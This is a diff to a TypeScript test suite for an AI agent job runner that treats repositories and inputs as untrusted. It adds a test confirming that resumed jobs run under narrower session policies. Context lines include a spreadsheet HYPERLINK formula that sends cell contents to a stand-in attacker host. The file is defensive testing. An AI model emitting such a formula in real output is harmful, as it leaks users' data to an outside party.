@@ -10,11 +10,15 @@ import { writeJobOutput } from '../actors/jobs/output.js';
 import { jobSpec, MAX_ITEM_RUNTIME_SECONDS, prepareJob, type JobRequest } from '../actors/jobs/prepare.js';
 import { resultCheck } from '../actors/jobs/schema.js';
 import { replay, type JobState } from '../actors/jobs/state.js';
+import { attachJobs } from '../actors/jobs/session.js';
+import { FileJobStore } from '../actors/jobs/store.js';
 import { spawnAgentsOnCsvTool } from '../actors/jobs/tools.js';
-import type { ToolContext } from '../actors/tools/tool.js';
+import type { AgentControl, ToolContext } from '../actors/tools/tool.js';
+import type { TurnContext } from '../machines/turn-context.js';
 import { buildTurnContext, settingsFromConfig } from '../machines/turn-context.js';
 import type { AskForApproval, SandboxPolicy } from '../protocol/index.js';
 import { TestResources } from './support/tool-context.js';
+import { waitFor } from './support/wait.js';
 
 // The model, the repository and the input files are untrusted: what the job tools let them do.
 
@@ -209,5 +213,44 @@ describe('agent job output in an untrusted repository', () => {
     const lines = (await readFile(join(workspace, 'out.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines[0]).toMatchObject({ answer: '=HYPERLINK("http://evil.example/?"&A1,"open")' });
     expect(existsSync(join(outside, 'out.csv'))).toBe(false);
+  });
+});
+
+describe('agent job items and their policies', () => {
+  it('runs a resumed job under its session\'s policies now when they are narrower than those it was started with', async () => {
+    await file(workspace, 'in.csv', 'name\na\n');
+    const store = new FileJobStore(home);
+    const prepared = await prepareJob({ csv_path: 'in.csv', instruction: '{name}', max_attempts: 1, output_csv_path: 'out.csv' }, workspace);
+    const wide = turnOf({ mode: 'workspace-write', writable_roots: [outside], network_access: true }, 'never');
+    await (await store.create(jobSpec(prepared, { sessionId: 's1', callId: 'c', turn: wide }))).close();
+    // The session is resumed read-only, asking before anything that is not known safe.
+    const narrow = settingsFromConfig({ cwd: workspace, approval_policy: 'untrusted', sandbox_policy: 'read-only' }, { model: 'm', cwd: workspace, base_instructions: 'b' });
+    const spawnedUnder: TurnContext[] = [];
+    const agents: AgentControl = {
+      spawn: (_request, ctx) => {
+        spawnedUnder.push(ctx.turn);
+        return Promise.reject(new Error('no model here'));
+      },
+      sendInput: () => Promise.reject(new Error('unused')),
+      wait: () => Promise.reject(new Error('unused')),
+      close: () => Promise.reject(new Error('unused')),
+      list: () => Promise.resolve([]),
+    };
+    const jobs = attachJobs({
+      sessionId: 's1',
+      home,
+      fresh: false,
+      settings: narrow,
+      toolContext: (callId, turn, signal) => ({ ...contextOf('read-only', 'untrusted'), callId, turn, signal, agents }),
+      record: () => undefined,
+      idle: () => true,
+    });
+    try {
+      await waitFor(() => existsSync(join(workspace, 'out.csv')), 'the resumed job to end');
+    } finally {
+      await jobs.dispose();
+    }
+    expect(spawnedUnder).toHaveLength(1);
+    expect(spawnedUnder[0]).toMatchObject({ approval_policy: 'untrusted', sandbox_policy: { mode: 'read-only', writable_roots: [], network_access: false } });
   });
 });
